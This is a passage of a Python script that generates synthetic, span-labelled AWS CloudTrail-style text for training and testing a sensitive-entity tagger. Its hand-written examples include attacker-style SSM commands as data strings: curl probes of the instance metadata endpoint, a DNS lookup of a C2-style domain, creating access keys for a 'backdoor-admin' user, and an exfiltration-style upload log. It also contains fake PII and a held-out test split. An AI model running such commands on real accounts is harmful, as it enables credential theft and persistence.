        label, value = R.choice([
            ("iam_role", arn_role()), ("s3_bucket", arn_bucket()), ("ec2_instance", f"i-{hx(17)}"),
            ("ipv4", ipv4()), ("ip_cidr", cidr()), ("email", email()), ("access_key", asia()),
            ("access_key", akia()), ("security_group", rid("sg")), ("url", url()),
            ("lambda_function", arn_lambda()), ("kms_key", arn_kms()), ("vpc", rid("vpc")),
            ("snapshot", rid("snap")), ("ipv6", ipv6()),
        ])
        emit("param", "", "requestParameters." + key, T().add(value, label))


def known_param():
    """Parameters under keys the typed mapping knows (checks the mappings end to end)."""
    key, label, gen, svc = R.choice([
        ("roleArn", "iam_role", arn_role, "sts"),
        ("bucketName", "s3_bucket", bucket, "s3"),
        ("instanceId", "ec2_instance", lambda: f"i-{hx(17)}", "ec2"),
        ("groupId", "security_group", lambda: rid("sg"), "ec2"),
        ("keyId", "kms_key", lambda: R.choice([uuid(), arn_kms(), "alias/" + R.choice(WORDS)]), "kms"),
        ("functionName", "lambda_function", lambda: R.choice([func(), arn_lambda()]), "lambda"),
        ("secretId", "secret", lambda: R.choice([secret(), arn_secret()]), "secretsmanager"),
        ("userName", "iam_user", user, "iam"),
        ("accessKeyId", "access_key", lambda: R.choice([akia(), asia()]), "iam"),
        ("cidrIp", "ip_cidr", cidr, "ec2"),
        ("vpcId", "vpc", lambda: rid("vpc"), "ec2"),
        ("imageId", "ami", lambda: rid("ami"), "ec2"),
        ("snapshotId", "snapshot", lambda: rid("snap"), "ec2"),
        ("volumeId", "volume", lambda: rid("vol"), "ec2"),
        ("networkInterfaceId", "eni", lambda: rid("eni"), "ec2"),
        ("subnetId", "subnet", lambda: rid("subnet"), "ec2"),
        ("policyArn", "arn", lambda: f"arn:aws:iam::{account()}:policy/{R.choice(WORDS).capitalize()}", "iam"),
    ])
    emit("param", svc, "requestParameters." + key, T().add(gen(), label))


# ---------------------------------------------------------------- policy documents

def jstr(t, s, label=None):
    t.add('"')
    t.add(s, label)
    t.add('"')


def policy():
    """A JSON policy document written the way IAM returns it (compact or indented)."""
    t = T()
    indent = R.random() < 0.5
    nl = "\n" if indent else ""
    sp = "  " if indent else ""
    c = R.random()
    t.add("{" + nl + sp + '"Version":"2012-10-17",' + nl + sp + '"Statement":[{' + nl)
    if c < 0.35:
        # trust policy
        t.add(sp * 2 + '"Effect":"Allow",' + nl + sp * 2 + '"Principal":{')
        kind = R.random()
        if kind < 0.4:
            t.add('"AWS":')
            lbl, v = R.choice([("root", arn_root()), ("iam_user", arn_user()), ("iam_role", arn_role()), ("account_id", account())])
            jstr(t, v, lbl)
        elif kind < 0.75:
            t.add('"Service":')
            jstr(t, R.choice(SERVICES) + ".amazonaws.com", "aws_service")
        else:
            t.add('"Federated":')
            jstr(t, R.choice(["cognito-identity.amazonaws.com", "accounts.google.com", "graph.facebook.com"]), "web_identity")
        t.add("}," + nl + sp * 2 + '"Action":')
        jstr(t, R.choice(["sts:AssumeRole", "sts:AssumeRoleWithWebIdentity", "sts:AssumeRoleWithSAML"]), "iam_action")
        if R.random() < 0.4:
            t.add("," + nl + sp * 2 + '"Condition":{"StringEquals":{"sts:ExternalId":')
            jstr(t, hx(12))
            t.add("}}")
    elif c < 0.7:
        # bucket policy
        b = bucket()
        t.add(sp * 2 + '"Sid":"' + R.choice(["AllowRead", "DenyInsecure", "CrossAccount"]) + '",' + nl)
        t.add(sp * 2 + '"Effect":"' + R.choice(["Allow", "Deny"]) + '",' + nl + sp * 2 + '"Principal":')
        if R.random() < 0.3:
            t.add('"*"')
        else:
            t.add('{"AWS":[')
            lbl, v = R.choice([("root", arn_root()), ("iam_role", arn_role())])
            jstr(t, v, lbl)
            t.add(",")
            jstr(t, account(), "account_id")
            t.add("]}")
        t.add("," + nl + sp * 2 + '"Action":[')
        acts = R.sample(["s3:GetObject", "s3:PutObject", "s3:ListBucket", "s3:*", "s3:GetBucketLocation"], 2)
        jstr(t, acts[0], "iam_action")
        t.add(",")
        jstr(t, acts[1], "iam_action")
        t.add("]," + nl + sp * 2 + '"Resource":[')
        jstr(t, f"arn:aws:s3:::{b}", "s3_bucket")
        t.add(",")
        jstr(t, f"arn:aws:s3:::{b}/*", "s3_object")
        t.add("]")
        if R.random() < 0.5:
            t.add("," + nl + sp * 2 + '"Condition":{"' + R.choice(["IpAddress", "NotIpAddress"]) + '":{"aws:SourceIp":')
            jstr(t, cidr(), "ip_cidr")
            t.add("}}")
        elif R.random() < 0.5:
            t.add("," + nl + sp * 2 + '"Condition":{"StringEquals":{"aws:SourceVpc":')
            jstr(t, rid("vpc"), "vpc")
            t.add("}}")
    else:
        # identity policy
        t.add(sp * 2 + '"Effect":"Allow",' + nl + sp * 2 + '"Action":')
        jstr(t, action(), "iam_action")
        t.add("," + nl + sp * 2 + '"Resource":')
        lbl, v = resource()
        if R.random() < 0.2:
            t.add('"*"')
        else:
            jstr(t, v, lbl)
        if R.random() < 0.3:
            t.add("," + nl + sp * 2 + '"Condition":{"StringEquals":{"aws:PrincipalAccount":')
            jstr(t, account(), "account_id")
            t.add(',"aws:RequestedRegion":')
            jstr(t, region(), "region")
            t.add("}}")
    t.add(nl + sp + "}]" + nl + "}")
    svc = R.choice(["iam", "s3", "kms", "sts"])
    path = {"iam": "requestParameters.policyDocument", "s3": "requestParameters.bucketPolicy",
            "kms": "requestParameters.policy", "sts": "requestParameters.policy"}[svc]
    emit("policy", svc, path, t)


# ---------------------------------------------------------------- hand-written examples

HAND = [
    ("free_text", "sts", "errorMessage", [("User: ", None), ("arn:aws:iam::123456789012:user/bob", "iam_user"), (" is not authorized to perform: ", None), ("sts:AssumeRole", "iam_action"), (" on resource: ", None), ("arn:aws:iam::210987654321:role/OrganizationAccountAccessRole", "iam_role")]),
    ("free_text", "s3", "errorMessage", [("User: ", None), ("arn:aws:sts::111122223333:assumed-role/ReadOnly/i-0a1b2c3d4e5f67890", "assumed_role"), (" is not authorized to perform: ", None), ("s3:GetObject", "iam_action"), (" on resource: ", None), ("arn:aws:s3:::acme-payroll-exports/2024/05/payroll.csv", "s3_object"), (" because no resource-based policy allows the ", None), ("s3:GetObject", "iam_action"), (" action", None)]),
    ("free_text", "kms", "errorMessage", [("The ciphertext refers to a customer master key that does not exist, does not exist in this region, or you are not allowed to access.", None)]),
    ("free_text", "iam", "errorMessage", [("The user with name ", None), ("mallory", "iam_user"), (" cannot be found.", None)]),
    ("free_text", "ec2", "errorMessage", [("The security group '", None), ("sg-0123456789abcdef0", "security_group"), ("' does not exist in VPC '", None), ("vpc-0a1b2c3d", "vpc"), ("'", None)]),
    ("free_text", "ec2", "requestParameters.description", [("Allow 443 from partner ", None), ("198.51.100.0/24", "ip_cidr"), (" and health checks from ", None), ("10.0.0.0/8", "ip_cidr")]),
    ("free_text", "lambda", "errorMessage", [("Calling the invoke API action failed with this message: Function not found: ", None), ("arn:aws:lambda:eu-west-1:123456789012:function:billing-export", "lambda_function")]),
    ("free_text", "ssm", "requestParameters.parameters.commands", [("curl ", None), ("http://169.254.169.254", "url"), (" ; curl -X PUT ", None), ("http://169.254.169.254/latest/api/token", "url"), (" ; ping ", None), ("169.254.169.254", "ipv4")]),
    ("free_text", "ses", "requestParameters.description", [("Forward alerts to ", None), ("soc@example.com", "email"), (" and page ", None), ("+1 206-555-0142", "phone")]),
    ("free_text", "organizations", "errorMessage", [("You can't remove account ", None), ("444455556666", "account_id"), (" because it is the management account.", None)]),
    ("log", "", "responseElements.output", [("Downloaded ", None), ("s3://acme-tools/bin/agent.tar.gz", "s3_object"), (" from ", None), ("us-west-2", "region")]),
    ("free_text", "iam", "errorMessage", [("The role with name ", None), ("AWSReservedSSO_AdministratorAccess_4f1c2d3e5a6b7c8d", "iam_role"), (" cannot be modified.", None)]),
    ("free_text", "ec2", "errorMessage", [("Version 10.2.0.1 of the agent is not supported", None)]),
    ("free_text", "ec2", "errorMessage", [("Invalid IPv6 address ", None), ("2600:1f18:4a3:6902::17", "ipv6")]),
    ("free_text", "s3", "errorMessage", [("The bucket ", None), ("corp-secrets-prod", "s3_bucket"), (" could not be accessed from ", None), ("203.0.113.77", "ipv4")]),
]


def hand():
    for kind, svc, path, parts in HAND:
        t = T()
        for s, lbl in parts:
            t.add(s, lbl)
        emit(kind, svc, path, t)



# Hand-written phrasings that no template above produces, all in the test split: they measure
# how the rules and the model generalise beyond the shapes they were built and trained on.
WILD = [
    ("free_text", "iam", "errorMessage", [("Failed to assume role ", None), ("arn:aws:iam::210987654321:role/CrossAccountAudit", "iam_role"), (" from account ", None), ("123456789012", "account_id"), (": trust policy does not allow it", None)]),
    ("free_text", "ec2", "errorMessage", [("API: ", None), ("ec2:RunInstances", "iam_action"), (" You are not authorized to perform this operation.", None)]),
    ("free_text", "iam", "errorMessage", [("Instance profile ", None), ("arn:aws:iam::123456789012:instance-profile/web-tier", "arn"), (" does not exist", None)]),
    ("free_text", "secretsmanager", "errorMessage", [("User ", None), ("alice", "iam_user"), (" is not allowed to read this secret", None)]),
    ("log", "", "responseElements.output", [("Detected login from ", None), ("185.220.101.4", "ipv4"), (" (Tor exit) for root", None)]),
    ("free_text", "sns", "requestParameters.description", [("Send the weekly report to ", None), ("security@acme.io", "email"), (", cc ", None), ("+44 20 7946 0958", "phone")]),
    ("free_text", "s3", "errorMessage", [("The bucket ", None), ("prod-logs-archive", "s3_bucket"), (" is in region ", None), ("eu-west-1", "region"), (", not ", None), ("us-east-1", "region")]),
    ("free_text", "s3", "errorMessage", [("An error occurred (NoSuchBucket) when calling the GetObject operation: The specified bucket does not exist", None)]),
    ("free_text", "iam", "requestParameters.description", [("arn:aws:iam::123456789012:user/alice", "iam_user"), (" has MFA disabled since 2024-03-01", None)]),
    ("free_text", "ec2", "errorMessage", [("Subnet ", None), ("subnet-0abc12345def67890", "subnet"), (" has no available IP addresses", None)]),
    ("log", "", "responseElements.output", [("agent version 10.2.1.4 started, build 2024.05.01", None)]),
    ("free_text", "ec2", "requestParameters.description", [("jump host for vendor, expires friday - contact ", None), ("ops-oncall@example.org", "email")]),
    ("free_text", "kms", "errorMessage", [("Access to KMS is not allowed: key ", None), ("arn:aws:kms:us-east-1:123456789012:key/0a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d", "kms_key"), (" is disabled", None)]),
    ("free_text", "lambda", "errorMessage", [("The provided execution role does not have permissions to call CreateNetworkInterface on EC2", None)]),
    ("free_text", "lambda", "errorMessage", [("Function ", None), ("billing-export", "lambda_function"), (" timed out after 900.00 seconds", None)]),
    ("log", "ssm", "responseElements.output", [("curl: (7) Failed to connect to ", None), ("internal-api.corp.example.com", "domain"), (" port 443: Connection refused", None)]),
    ("log", "ssm", "responseElements.output", [("uploaded 3 files to ", None), ("s3://acme-exfil-tmp/dump/", "s3_object"), (" in 4.2s", None)]),
    ("free_text", "ec2", "requestParameters.description", [("Allow office ", None), ("203.0.113.0/24", "ip_cidr"), (" and VPN ", None), ("198.51.100.17", "ipv4"), (" on 22/tcp", None)]),
    ("free_text", "iam", "errorMessage", [("Policy ", None), ("arn:aws:iam::aws:policy/AdministratorAccess", "arn"), (" is attached to 14 entities", None)]),
    ("free_text", "sts", "errorMessage", [("Not authorized to perform ", None), ("sts:TagSession", "iam_action"), (" on ", None), ("arn:aws:iam::123456789012:role/GitHubActionsOIDC", "iam_role")]),
    ("free_text", "organizations", "errorMessage", [("The member account ", None), ("555566667777", "account_id"), (" must accept the handshake first", None)]),
    ("free_text", "ec2", "errorMessage", [("The snapshot ", None), ("snap-0b5e6f7a8b9c0d1e2", "snapshot"), (" is currently in use by ", None), ("ami-0c1d2e3f4a5b6c7d8", "ami")]),
    ("free_text", "guardduty", "requestParameters.description", [("Trusted IPs for the scanner: ", None), ("192.0.2.10", "ipv4"), (", ", None), ("192.0.2.11", "ipv4")]),
    ("free_text", "s3", "requestParameters.description", [("Quarterly export for finance, owner ", None), ("Maria.Garcia@Example.com", "email")]),
    ("log", "", "responseElements.output", [("order 482913775102 shipped to customer 88123", None)]),
    ("log", "", "responseElements.output", [("payment declined for card ", None), ("4000 0566 5566 5556", "payment_card"), (" (insufficient funds)", None)]),
    ("free_text", "iam", "errorMessage", [("Cannot delete user ", None), ("svc-legacy-etl", "iam_user"), (": it still has access keys", None)]),
    ("free_text", "iam", "errorMessage", [("Role ", None), ("DataScienceNotebook", "iam_role"), (" cannot be deleted while it is attached to an instance profile", None)]),
    ("free_text", "ssm", "requestParameters.parameters.commands", [("dig +short ", None), ("c2.badactor.top", "domain"), (" @8.8.8.8", None)]),
    ("free_text", "ssm", "requestParameters.parameters.commands", [("aws iam create-access-key --user-name ", None), ("backdoor-admin", None)]),
    ("free_text", "ec2", "errorMessage", [("Network interface ", None), ("eni-0f1e2d3c4b5a69788", "eni"), (" is in use by ", None), ("i-0123abcd4567ef890", "ec2_instance")]),
    ("free_text", "secretsmanager", "errorMessage", [("You can't perform this operation on the secret because it was marked for deletion.", None)]),
    ("free_text", "rds", "errorMessage", [("DB instance prod-db-1 is not in available state; security group ", None), ("sg-0a1b2c3d", "security_group"), (" is missing", None)]),
    ("log", "", "responseElements.output", [("GET ", None), ("https://api.partner-portal.io/v2/orders?id=77", "url"), (" -> 403 for ", None), ("10.20.30.40", "ipv4")]),
    ("free_text", "iam", "requestParameters.description", [("Emergency contact: Jane Doe ", None), ("(206) 555-0187", "phone"), (", SSN ", None), ("219-09-9999", "national_id")]),
    ("free_text", "kms", "errorMessage", [("Invalid ciphertext: key alias ", None), ("alias/prod-payments", "kms_key"), (" has no key", None)]),
    ("free_text", "s3", "errorMessage", [("Access Denied for ", None), ("arn:aws:sts::123456789012:assumed-role/etl-glue-role/GlueJobRunner", "assumed_role"), (" on ", None), ("arn:aws:s3:::curated-data-lake/tables/orders/part-0001.parquet", "s3_object")]),
    ("free_text", "sts", "errorMessage", [("The requested DurationSeconds exceeds the MaxSessionDuration set for this role.", None)]),
    ("free_text", "iam", "errorMessage", [("The current access key ", None), ("AKIAZ7Q3XPLM4RT2WQ5N", "access_key"), (" is inactive", None)]),
    ("free_text", "sts", "errorMessage", [("Temporary credentials ", None), ("ASIAQ4N7PLX2ZT6RW3YB", "access_key"), (" have expired", None)]),
    ("param", "backup", "requestParameters.vaultBucket", [("acme-vault-eu-central-1", "s3_bucket")]),
    ("param", "events", "requestParameters.targetFunctionName", [("notify-secops", "lambda_function")]),
    ("param", "glue", "requestParameters.crawlerRole", [("GlueCrawlerRole", "iam_role")]),
    ("param", "transfer", "requestParameters.homeBucket", [("sftp-home-prod", "s3_bucket")]),
    ("param", "codebuild", "requestParameters.serviceRoleName", [("codebuild-deploy-service-role", "iam_role")]),
    ("param", "datasync", "requestParameters.agentHost", [("datasync-agent01.corp.lan", "domain")]),
    ("param", "glue", "requestParameters.correlationId", [("7c9e6679-7425-40de-944b-e07fc1f90ae7", None)]),
    ("param", "ec2", "requestParameters.ownerAlias", [("amazon", None)]),
    ("param", "states", "requestParameters.executionName", [("nightly-2024-05-01", None)]),
    ("param", "glue", "requestParameters.databaseName", [("sales_curated", None)]),
    ("param", "events", "requestParameters.eventBusName", [("default", None)]),
    ("param", "sns", "requestParameters.subscriberEmail", [("alerts@acme-corp.com", "email")]),
    ("param", "iam", "requestParameters.ownerAccount", [("999900001111", "account_id")]),
    ("param", "ssm", "requestParameters.targetInstance", [("i-0fedcba9876543210", "ec2_instance")]),
]


def wild():
    for kind, svc, path, parts in WILD:
        t = T()
        for s, lbl in parts:
            t.add(s, lbl)
        emit(kind, svc, path, t, "test")

# ---------------------------------------------------------------- main

def main():
    hand()
    wild()
    plan = [(authz_error, 260), (ec2_error, 130), (iam_error, 110), (kms_lambda_secrets_error, 130),
            (misc_error, 120), (ssm_command, 90), (description, 130), (log_line, 110),
            (param, 330), (known_param, 70), (policy, 120)]
    for fn, n in plan:
        for _ in range(n):
            fn()
    seen = set()
    out = []
    for i, e in enumerate(EXAMPLES):
        key = (e["path"], e["text"])
        if key in seen:
            continue
        seen.add(key)
        split = e["force_split"] or ("test" if R.random() < 0.25 else "train")
        out.append({"id": f"{e['kind']}-{i:04d}", "split": split, "kind": e["kind"],
                    "service": e["service"], "path": e["path"], "text": e["text"],
                    "spans": e["spans"]})
    for e in out:
        print(json.dumps(e, separators=(",", ":"), ensure_ascii=False))


if __name__ == "__main__":
    main()
